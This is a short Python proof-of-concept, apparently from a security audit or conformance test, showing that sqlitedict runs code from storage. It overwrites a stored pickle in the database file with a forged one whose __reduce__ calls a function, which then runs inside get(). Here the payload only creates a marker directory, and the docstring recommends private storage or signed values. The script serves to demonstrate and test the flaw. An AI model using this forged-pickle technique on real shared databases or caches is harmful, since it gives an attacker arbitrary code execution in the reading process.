"""Whoever can write the database file decides what code runs in the next reader: sqlitedict
unpickles every value it reads, so a stored value's pickle replaced in place (same length, the
rest of the file untouched) by one that calls a function runs that function inside `get`. Here
the forged pickle only creates a marker directory; a real one could do anything the reading
process may. sqlitedict documents that values are pickled (its `decode` can be replaced, e.g. by
JSON), so this is the spec's SHOULD (never run code from storage), not a broken promise; it is
why the storage must be private (SAFE-PRIVATE-STORAGE) or the values signed.
"""
import os
import pickle
import tempfile

from sqlitedict import SqliteDict

VALUE = [0, b"\x00" * 2048]


class Evil:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.mkdir, (self.marker,))


with tempfile.TemporaryDirectory() as tmp:
    path, marker = os.path.join(tmp, "cache.sqlite"), os.path.join(tmp, "code-ran")
    d = SqliteDict(path, autocommit=True)
    d["key"] = VALUE
    d.close()
    data = open(path, "rb").read()
    blob = pickle.dumps(VALUE, pickle.HIGHEST_PROTOCOL)
    at, evil = data.find(blob), pickle.dumps(Evil(marker))
    with open(path, "r+b") as f:  # same length: unpickling stops at the forged pickle's STOP
        f.seek(at)
        f.write(evil + b"\x00" * (len(blob) - len(evil)))
    d = SqliteDict(path, autocommit=True)
    got = d.get("key")
    d.close()
    print("get('key') returned", repr(got)[:40], "| code ran:", os.path.isdir(marker))
    if os.path.isdir(marker):
        print("DEVIATION REPRODUCED")
        raise SystemExit(0)
raise SystemExit(1)
